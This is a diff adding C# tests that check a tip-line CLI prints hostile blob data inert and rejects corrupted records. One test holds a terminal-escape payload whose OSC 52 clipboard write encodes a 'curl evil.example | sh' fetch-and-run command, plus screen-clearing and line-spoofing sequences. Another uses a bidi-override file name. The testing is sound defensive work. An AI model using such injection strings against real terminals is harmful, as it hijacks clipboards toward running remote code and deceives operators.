@@ -74,6 +74,131 @@ public sealed class HostileCaseTests(AzuriteFixture storage) : IDisposable
         Assert.Contains(" UTC - On call\uFFFD" + Paused + "\n", shown.Stdout, StringComparison.Ordinal);
     }
 
+    [Fact]
+    public async Task TipsMedia_ContentTypeWithTerminalEscapes_PrintsItInert()
+    {
+        var id = TipId.New();
+        var photo = RandomNumberGenerator.GetBytes(3000);
+
+        // OSC 52 writes the responder's clipboard, ESC [2J clears the screen, and a line break starts a line of the tool's.
+        const string Hostile = "image/jpeg\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007\u001b[2J\u009b2J\nWrote /home/on-call/evidence/safe.jpg";
+        await PlantAsync(ReportStore.ReportBlobName(id), Sms(id, 1, "photo", media: [new MediaItem { Index = 1, State = MediaStates.Expected, ContentType = "image/jpeg" }]).ToUtf8Json());
+        await PlantMediaAsync(id, 1, [Stored(id, 1, 1, photo, Hostile)]);
+        await PlantAsync(ReportStore.MediaBlobName(id, 1, 1), photo, padded: false);
+
+        var written = await CliAsync("tips", "media", id.ToString(), "--out", "evidence");
+
+        Assert.Equal(0, written.Exit);
+        foreach (var c in new[] { '\u001b', '\u0007', '\u009b' })
+        {
+            Assert.DoesNotContain(c, written.Stdout + written.Stderr);
+        }
+
+        var line = Assert.Single(written.Stdout.Split('\n', StringSplitOptions.RemoveEmptyEntries));
+        Assert.StartsWith($"Wrote {Path.Combine(_dir.FullName, "evidence", $"{id}-m1-1.bin")} (image/jpeg\uFFFD]52;c;", line, StringComparison.Ordinal);
+        Assert.Contains("\uFFFD\uFFFD[2J\uFFFD2J\uFFFDWrote /home/on-call/evidence/safe.jpg, 3000 bytes, sha256 checked).", line, StringComparison.Ordinal);
+        Assert.Equal(photo, await File.ReadAllBytesAsync(Path.Combine(_dir.FullName, "evidence", $"{id}-m1-1.bin"), Ct));
+    }
+
+    [Theory]
+    [InlineData("envelope media [null]")]
+    [InlineData("media record items null")]
+    [InlineData("media record items [null]")]
+    [InlineData("media record of another message")]
+    [InlineData("two items with one index")]
+    [InlineData("encryptiondata without the wrapped key")]
+    [InlineData("encryptiondata with an unknown algorithm")]
+    [InlineData("encryptiondata without regions")]
+    [InlineData("encryptiondata with huge regions")]
+    [InlineData("encryptiondata without key id")]
+    [InlineData("a note named with a bidi override")]
+    public async Task TipsShowAndMedia_PlantedBlobThatDoesNotHoldTogether_OneLineExitOneNothingWritten(string planted)
+    {
+        var id = TipId.New();
+        var photo = RandomNumberGenerator.GetBytes(2000);
+        var report = Sms(id, 1, "photos of the house", media: [new MediaItem { Index = 1, State = MediaStates.Expected, ContentType = "image/jpeg" }]);
+        await PlantAsync(ReportStore.ReportBlobName(id), Node(report.ToUtf8Json(), json =>
+        {
+            if (planted == "envelope media [null]")
+            {
+                json["sms"]!["media"]!.AsArray().Insert(0, null);
+            }
+        }));
+        var items = new[] { Stored(id, 1, 1, photo), Stored(id, 1, 2, photo) };
+        await PlantAsync(ReportStore.MediaRecordBlobName(id, 1), Node(Record(id, 1, items).ToUtf8Json(), json =>
+        {
+            switch (planted)
+            {
+                case "media record items null":
+                    json["items"] = null;
+                    break;
+                case "media record items [null]":
+                    json["items"]!.AsArray().Add((JsonNode?)null);
+                    break;
+                case "two items with one index":
+                    json["items"]![1]!["index"] = 1;
+                    break;
+            }
+        }));
+        foreach (var item in items)
+        {
+            await PlantAsync(item.Blob!, photo, padded: false);
+        }
+
+        if (planted == "media record of another message")
+        {
+            // A second record claiming message 1's media: the same file names, twice.
+            await PlantAsync(ReportStore.MediaRecordBlobName(id, 2), Record(id, 1, items).ToUtf8Json());
+        }
+
+        if (planted == "a note named with a bidi override")
+        {
+            // Blob names are whatever a writer chose, and error lines name blobs: this one reads backwards from the override.
+            await PlantAsync($"{id.Compact}/note-\u202Edesolc esac", Encoding.UTF8.GetBytes("not a note"));
+        }
+
+        if (planted.StartsWith("encryptiondata", StringComparison.Ordinal))
+        {
+            var blob = new BlobClient(storage.ConnectionString, "tips", ReportStore.MediaRecordBlobName(id, 1));
+            var metadata = (await blob.GetPropertiesAsync(cancellationToken: Ct)).Value.Metadata;
+            var encryption = JsonNode.Parse(metadata["encryptiondata"])!;
+            if (planted.EndsWith("wrapped key", StringComparison.Ordinal))
+            {
+                encryption.AsObject().Remove("WrappedContentKey");
+            }
+            else if (planted.EndsWith("without regions", StringComparison.Ordinal))
+            {
+                encryption.AsObject().Remove("EncryptedRegionInfo");
+            }
+            else if (planted.EndsWith("huge regions", StringComparison.Ordinal))
+            {
+                encryption["EncryptedRegionInfo"]!["DataLength"] = int.MaxValue;
+            }
+            else if (planted.EndsWith("key id", StringComparison.Ordinal))
+            {
+                encryption["WrappedContentKey"]!.AsObject().Remove("KeyId");
+            }
+            else
+            {
+                encryption["WrappedContentKey"]!["Algorithm"] = "RSA1_5";
+            }
+
+
+            metadata["encryptiondata"] = encryption.ToJsonString();
+            await blob.SetMetadataAsync(metadata, cancellationToken: Ct);
+        }
+
+        var show = await CliAsync("tips", "show", id.ToString());
+        var media = await CliAsync("tips", "media", id.ToString(), "--out", "evidence");
+
+        Assert.False(Directory.Exists(Path.Combine(_dir.FullName, "evidence")));
+        Assert.Contains($"{id.Compact}/", media.OneErrorLine(), StringComparison.Ordinal);
+        Assert.Empty(media.Stdout);
+        Assert.Contains($"{id.Compact}/", show.OneErrorLine(), StringComparison.Ordinal);
+        Assert.Empty(show.Stdout);
+        Assert.DoesNotContain(show.Stderr + media.Stderr, TerminalText.IsUnsafe);
+    }
+
     private static TipReport Sms(TipId id, int sequence, string message, IReadOnlyList<MediaItem>? media = null) => new()
     {
         TipId = id.ToString(),
@@ -85,6 +210,29 @@ public sealed class HostileCaseTests(AzuriteFixture storage) : IDisposable
         Sender = new SmsSender("+447700900123", "pseudonym"),
         Sms = new SmsDetails { MessageSid = "SM" + Convert.ToHexStringLower(RandomNumberGenerator.GetBytes(16)), Sequence = sequence, Media = media },
     };
+
+    private static MediaItem Stored(TipId id, int sequence, int index, byte[] content, string contentType = "image/jpeg") => new()
+    {
+        Index = index,
+        State = MediaStates.Stored,
+        ContentType = contentType,
+        Size = content.Length,
+        Sha256 = Convert.ToHexStringLower(SHA256.HashData(content)),
+        Blob = ReportStore.MediaBlobName(id, sequence, index),
+    };
+
+    private static MediaRecord Record(TipId id, int sequence, IReadOnlyList<MediaItem> items) =>
+        new() { TipId = id.ToString(), Sequence = sequence, SettledAt = Received.AddMinutes(1), Items = items };
+
+    private static byte[] Node(byte[] json, Action<JsonNode> change)
+    {
+        var node = JsonNode.Parse(json)!;
+        change(node);
+        return Encoding.UTF8.GetBytes(node.ToJsonString());
+    }
+
+    private Task PlantMediaAsync(TipId id, int sequence, IReadOnlyList<MediaItem> items) =>
+        PlantAsync(ReportStore.MediaRecordBlobName(id, sequence), Record(id, sequence, items).ToUtf8Json());
 
     /// <summary>A blob as someone with write access and the public key writes it: encrypted to the responders' key as intake does.</summary>
     private async Task PlantAsync(string name, byte[] content, bool padded = true)
